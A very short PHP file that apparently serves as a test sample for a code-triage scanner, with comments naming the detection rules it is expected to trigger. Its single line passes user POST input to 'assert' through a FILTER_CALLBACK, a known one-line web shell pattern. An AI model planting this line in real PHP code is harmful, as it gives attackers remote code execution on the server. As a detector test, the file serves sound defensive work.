<?php
// triage-expect: triage_php_callback_exec
// triage-expect: triage_php_tiny_dynamic_exec
$clean = filter_var($_POST['note'], FILTER_CALLBACK, array('options' => 'assert'));
